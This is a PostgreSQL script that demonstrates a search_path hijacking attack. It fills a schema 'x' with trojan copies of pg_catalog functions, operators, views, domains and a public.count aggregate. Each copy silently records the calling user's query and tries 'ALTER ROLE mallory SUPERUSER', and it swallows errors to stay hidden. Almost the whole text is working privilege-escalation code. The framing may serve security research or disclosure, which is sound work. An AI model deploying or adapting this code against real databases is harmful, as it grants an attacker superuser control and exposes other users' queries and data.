-- What the owner of a plain database can do to whoever visits it: every function, operator, cast, type, table and view of
-- pg_catalog has a namesake in his schema x, which the session's search_path finds first. Each calls x.seize().
CREATE SCHEMA x;
GRANT USAGE ON SCHEMA x TO PUBLIC;
CREATE TABLE x.seized (who pg_catalog.text, query pg_catalog.text);
GRANT ALL ON x.seized TO PUBLIC;
CREATE SEQUENCE x.runs;
GRANT ALL ON SEQUENCE x.runs TO PUBLIC;

-- A sequence keeps its count where a transaction is taken back.
CREATE FUNCTION x.seize() RETURNS bool LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN
    IF current_user <> 'mallory' THEN
        PERFORM nextval('x.runs');
        INSERT INTO x.seized VALUES (current_user, current_query());
        EXECUTE 'ALTER ROLE mallory SUPERUSER';
    END IF;
    RETURN true;
EXCEPTION WHEN OTHERS THEN
    RETURN true;
END $$;

DO $do$
DECLARE
    f pg_catalog.record;
BEGIN
    FOR f IN
        SELECT p.proname, pg_get_function_identity_arguments(p.oid) AS arguments, pg_get_function_result(p.oid) AS result,
               CASE WHEN p.proretset THEN 'RETURN' ELSE 'RETURN NULL' END AS answer
        FROM pg_proc p
        WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND p.prorettype <> 'internal'::regtype
          AND NOT p.proargtypes::oid[] && ARRAY['internal', 'cstring', '"any"']::regtype[]::oid[]
          AND p.proname !~ '^(gin|gist|spg|brin|bt|hash|int|float|numeric|geo|box|circle|path|poly|point|lseg|line|ts_|tsq|tsv)'
    LOOP
        BEGIN
            EXECUTE format('CREATE FUNCTION x.%I(%s) RETURNS %s LANGUAGE plpgsql AS $f$ BEGIN PERFORM x.seize(); '
                || '%s; END $f$', f.proname, f.arguments, f.result, f.answer);
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END LOOP;
    FOR f IN
        SELECT o.oid, o.oprname, oprleft::regtype AS l, oprright::regtype AS r, oprresult::regtype AS result
        FROM pg_operator o
        WHERE o.oprkind = 'b' AND o.oprname IN ('=', '<>', '<', '>', '>=', '<=', '+', '-', '*', '/', '||', '~', '~*')
    LOOP
        BEGIN
            EXECUTE format('CREATE FUNCTION x.operator_%s(%s, %s) RETURNS %s LANGUAGE plpgsql AS $f$ BEGIN PERFORM x.seize(); '
                || 'RETURN NULL; END $f$', f.oid, f.l, f.r, f.result);
            EXECUTE format('CREATE OPERATOR x.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = x.operator_%s)', f.oprname, f.l, f.r,
                f.oid);
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END LOOP;
    FOR f IN
        SELECT relname FROM pg_class c
        WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v')
          AND relname <> 'pg_statistic_ext_data'
          AND NOT EXISTS (SELECT FROM pg_attribute WHERE attrelid = c.oid AND atttypid = 'anyarray'::regtype)
    LOOP
        EXECUTE format('CREATE VIEW x.%I AS SELECT * FROM pg_catalog.%I WHERE x.seize()', f.relname, f.relname);
        EXECUTE format('GRANT SELECT ON x.%I TO PUBLIC', f.relname);
    END LOOP;
    FOR f IN SELECT unnest(ARRAY['text', 'oid', 'regclass', 'name', 'int4', 'int8', 'float8', 'bool', 'regnamespace']) AS name LOOP
        EXECUTE format('CREATE DOMAIN x.%I AS pg_catalog.%I CHECK (x.seize())', f.name, f.name);
    END LOOP;
END $do$;

CREATE FUNCTION x.count_step(pg_catalog.int8) RETURNS pg_catalog.int8 LANGUAGE plpgsql AS
    $$ BEGIN PERFORM x.seize(); RETURN 1; END $$;
CREATE AGGREGATE x.count(*) (SFUNC = x.count_step, STYPE = pg_catalog.int8, INITCOND = '0');
CREATE AGGREGATE public.count(*) (SFUNC = x.count_step, STYPE = pg_catalog.int8, INITCOND = '0');
CREATE FUNCTION x.sum_step(pg_catalog.int8, pg_catalog.int8) RETURNS pg_catalog.int8 LANGUAGE plpgsql AS
    $$ BEGIN PERFORM x.seize(); RETURN 1; END $$;
CREATE AGGREGATE x.sum(pg_catalog.int8) (SFUNC = x.sum_step, STYPE = pg_catalog.int8, INITCOND = '0');
